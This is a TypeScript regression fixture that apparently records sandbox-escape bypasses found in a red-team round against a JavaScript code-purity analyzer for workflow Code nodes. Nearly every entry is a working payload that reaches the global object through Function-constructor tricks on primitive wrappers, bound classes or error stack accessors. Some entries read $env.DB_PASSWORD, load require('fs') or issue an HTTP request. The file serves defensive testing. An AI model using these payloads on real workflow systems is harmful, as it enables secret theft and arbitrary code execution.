// Round 27 of the code-purity red team, 2026-12-02: black box against the points-to analysis after the rule that a
// primitive stored on a function of the task's own realm is no change of a built-in; 306 bodies tried, 203 obtained a
// capability, these 45 obtained one while the points-to analysis reported none (19 of them passed the shipped
// value-flow rule too). One root cause: `Object(p)` (and `new Object(p)`, `({}).constructor(p)`, `Object.call`,
// `['x'].map(Object)`, and `Object.prototype.valueOf.call(p)`) of a primitive was a plain object, so a String, Number or
// Symbol wrapper's members (their constructor, what the code stored on them) were read as nothing. Causes:
// object-call-primitive-wrapper (28), wrapper-alias-primitive-write (12), wrapper-alias-object-write (4), wrapper-alias-prototype-write (1).
// The points-to analysis boxes a primitive with its realm's prototype there now (toObject in summaries.ts). The value flow
// missed the calls of the Function constructor whose result it stored (`{ g: w.trim.constructor('x')() }`): the result was
// marked reported, the store tainted the heap, and the callee read that taint as reported; a body with no finding now
// reports every such call (js-value-flow.ts, compilerCallsSpared).
// The round's second half (a second helper: 430 attempts, 289 obtained, 41 missed, 35 kept in two causes; its files
// were lost with its machine, so the 13 at the end are the causes rewritten and re-run here): a bound function's
// [[Prototype]] is its target's (the analysis gave it Function.prototype), and V8's `stack` accessor on an error
// instance (Node 24; Node 20 has an own data property) stores into the error when an object that inherits from it is
// written. The value flow reported all of them.
import type { RoundEntry } from "./red-team-round.js";

export const ROUND27_BYPASSES: RoundEntry[] = [
  {
    id: "rc-object-call",
    code: "const w = Object.call(null, 'x'); return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "rc-object-apply",
    code: "const w = Object.apply(null, ['x']); return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "rc-map-object",
    code: "const w = ['x'].map(Object)[0]; return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "rc-from-object",
    code: "const w = Array.from(['x'], Object)[0]; return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "rc-obj-fromentries-wrap",
    code: "const w = Object(Object.fromEntries([['a', 1]]).a); return [{json:{g: w.toFixed.constructor('return this')()}}];",
  },
  {
    id: "rc-obj-json-prim",
    code: "const w = Object($json.name); return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "rc-obj-template",
    code: "const w = Object(`a${1}`); return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "wa-obj-write-return",
    code: "Object('x').trim.k = this; return [{json:{f: ''.trim}}];",
  },
  {
    id: "wa-obj-write-read",
    code: "Object('x').trim.k = this; return [{json:{g: ''.trim.k}}];",
  },
  {
    id: "wa-obj-write-env",
    code: "Object(1).toFixed.e = $env; return [{json:{s: (5).toFixed.e.DB_PASSWORD}}];",
  },
  {
    id: "wa-obj-write-log",
    code: "Object(1).toFixed.e = $env; console.log({ f: (1).toFixed.e }); return [];",
  },
  {
    id: "pr-create-via-wrapper",
    code: "const o = Object.create(Object('x').trim); String.prototype.trim.k = 'constructor'; const k = o.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "sp-wrapper-ctor-proto",
    code: "Object('x').trim.constructor.prototype.k = 'constructor'; const k = (() => 1).k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "strp-wrapper-ctor2",
    code: "const w = Object('x'); w.trim.call.k = 'constructor'; const k = ''.trim.apply.call.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "each-wrapper-write",
    code: "const k = ''.trim.k ?? 'name'; Object('x').trim.k = 'constructor'; let g = null; try { g = (() => 0)[k]('return this')() } catch {} return { json: { g } };",
    mode: "runOnceForEachItem",
  },
  {
    id: "wr-static-store",
    code: "const G = Object('x').trim.constructor('return this')(); $getWorkflowStaticData('global').g = G; return [];",
  },
  {
    id: "wr-evalexpr",
    code: "const G = Object(1).toFixed.constructor('return this')(); try { G.$evaluateExpression('{{ $env.DB_PASSWORD }}') } catch {} return [];",
  },
  {
    id: "wr-log-env",
    code: "const G = Object('x').trim.constructor('return this')(); console.log({ e: G.$env.DB_PASSWORD }); return [];",
  },
  {
    id: "wr-num-alias-key",
    code: "Object(0).toFixed.k = 'constructor'; const k = (0).toFixed.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}] } catch { return [] }",
  },
  {
    id: "al-symbol-toprim",
    code: "Symbol.prototype[Symbol.toPrimitive].k = 'constructor'; const k = Object(Symbol())[Symbol.toPrimitive].k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-obj-write",
    code: "Object(Symbol())[Symbol.toPrimitive].k = 'constructor'; const k = Symbol.prototype[Symbol.toPrimitive].k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-obj-both",
    code: "Object(Symbol())[Symbol.toPrimitive].k = 'constructor'; const k = Object(Symbol())[Symbol.toPrimitive].k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-obj-str",
    code: "String.prototype.trim.k = 'constructor'; const k = Object('x').trim.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-obj-num",
    code: "Number.prototype.toFixed.k = 'constructor'; const k = Object(1).toFixed.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-obj-str-both",
    code: "Object('x').trim.k = 'constructor'; const k = Object('y').trim.k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "st-newobj",
    code: "Symbol.prototype[Symbol.toPrimitive].k = 'constructor'; const k = new Object(Symbol.iterator)[Symbol.toPrimitive].k ?? 'name'; try { return [{json:{g: (() => 0)[k]('return this')()}}]; } catch { return [{json:{k: String(k)}}]; }",
  },
  {
    id: "ow-str-trim-ctor",
    code: "return [{json:{g: Object('x').trim.constructor('return this')()}}];",
  },
  {
    id: "ow-num-ctor",
    code: "const f = Object(1).toFixed; return [{json:{g: f.constructor('return this')()}}];",
  },
  {
    id: "ow-sym-toprim-ctor",
    code: "const f = Object(Symbol())[Symbol.toPrimitive]; return [{json:{g: f.constructor('return this')()}}];",
  },
  {
    id: "ow-str-k-primwrite",
    code: "const w = Object('x'); w.trim.k = 'constructor'; return [{json:{g: (() => 0)[''.trim.k ?? 'name']('return this')()}}];",
  },
  {
    id: "ow-str-concat",
    code: "const k = Object('constr').concat('uctor'); return [{json:{g: (() => 0)[k]('return this')()}}];",
  },
  {
    id: "ow-str-index",
    code: "const o = Object('x'); return [{json:{g: o.at.constructor('return this')()}}];",
  },
  {
    id: "wr-obj-call-nonew",
    code: "const O = Object; const w = O(5); return [{json:{g: w.toFixed.constructor('return this')()}}];",
  },
  {
    id: "wr-obj-via-ctor",
    code: "const w = ({}).constructor('x'); return [{json:{g: w.trim.constructor('return this')()}}];",
  },
  {
    id: "wr-str-iter",
    code: "const w = Object('x'); return [{json:{g: w[Symbol.iterator].constructor('return this')()}}];",
  },
  {
    id: "wr-str-iter-next",
    code: "const it = Object('x')[Symbol.iterator](); return [{json:{g: it.next.constructor('return this')()}}];",
  },
  {
    id: "wr-str-match",
    code: "const f = Object('x').match; return [{json:{g: f.call('a', /a/).constructor.constructor('return this')()}}];",
  },
  {
    id: "wr-str-split-result",
    code: "const a = Object('a,b').split(','); return [{json:{g: a.map.constructor('return this')()}}];",
  },
  {
    id: "wr-num-env",
    code: "const f = Object(1).toFixed; return [{json:{s: f.constructor('return $env')().DB_PASSWORD}}];",
  },
  {
    id: "wr-num-require",
    code: "const f = Object(1).toFixed; try { f.constructor('return require')()('fs') } catch {} return [];",
  },
  {
    id: "wr-num-helpers",
    code: "const f = Object(1).toPrecision; await f.constructor('return helpers')().httpRequest({ url: 'http://x' }); return [];",
  },
  {
    id: "wr-each",
    code: "const f = Object('x').padStart; return {json:{g: f.constructor('return this')()}};",
    mode: "runOnceForEachItem",
  },
  {
    id: "wr-n24",
    code: "const f = Object('x').isWellFormed; return [{json:{g: f.constructor('return this')()}}];",
    node24: true,
  },
  {
    id: "wr-str-call-apply",
    code: "const f = Object('x').trim; return [{json:{g: f.call.constructor('return this')()}}];",
  },
  {
    id: "wr-str-getter-this",
    code: "const w = Object('x'); const g = w.trim.constructor; return [{json:{g}}];",
  },
  // Found while fixing the above: Object.prototype.valueOf gave its receiver back, a primitive, so what the code stored on the wrapper was lost.
  { id: "valueof-box", code: "const w = Object.prototype.valueOf.call('x'); w.k = this; return [{json:{g: w.k}}];" },
  // Helper-12's half of the round (rewritten here: its files were lost with the machine). A bound function's [[Prototype]]
  // is its target's, not Function.prototype (bind in summaries.ts), and V8's own `stack` accessor on an error stores into
  // its holder, so a write of `stack` on an object that inherits from an error changes the error (put in engine.ts).
  {
    id: "bf-static-this",
    code: "class A {} class B extends A {} A.k = this; return [{json:{g: B.bind().k}}];",
  },
  {
    id: "bf-static-env",
    code: "class A {} class B extends A {} A.e = $env; return [{json:{s: B.bind(null).e.DB_PASSWORD}}];",
  },
  {
    id: "bf-extends-bound",
    code: "class A {} class B extends A {} A.k = this; class C extends B.bind() {} return [{json:{g: C.k}}];",
  },
  {
    id: "bf-static-method-compile",
    code: "class A { static f() {} } class B extends A {} const f = B.bind().f; return [{json:{g: f.constructor('return this')()}}];",
  },
  {
    id: "bf-double-bind",
    code: "class A {} class B extends A {} A.k = this; return [{json:{g: B.bind().bind().k}}];",
  },
  {
    id: "bf-static-require",
    code: "class A {} class B extends A {} A.r = require; try { B.bind().r('fs') } catch {} return [];",
  },
  {
    id: "es-stack-holder",
    code: "const e = new Error('x'); const o = Object.create(e); o.stack = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
  {
    id: "es-stack-holder-type",
    code: "const e = new TypeError('x'); const o = { __proto__: e }; o.stack = $env; return [{json:{g: e.stack.DB_PASSWORD}}];",
    node24: true,
  },
  {
    id: "es-stack-holder-caught",
    code: "let e; try { null.x } catch (c) { e = c } const o = Object.create(e); o.stack = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
  {
    id: "es-stack-aggregate",
    code: "const e = new AggregateError([], 'x'); const o = Object.create(e); o.stack = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
  {
    id: "es-stack-class",
    code: "class E extends Error { constructor() { super('x'); } } const e = new E(); const o = Object.create(e); o.stack = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
  {
    id: "es-stack-atob",
    code: "let e; try { atob('*') } catch (c) { e = c } const o = Object.create(e); o.stack = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
  {
    id: "es-stack-key",
    code: "const e = new Error('x'); const o = Object.create(e); const k = ['st', 'ack'].join(''); o[k] = this; return [{json:{g: e.stack}}];",
    node24: true,
  },
];
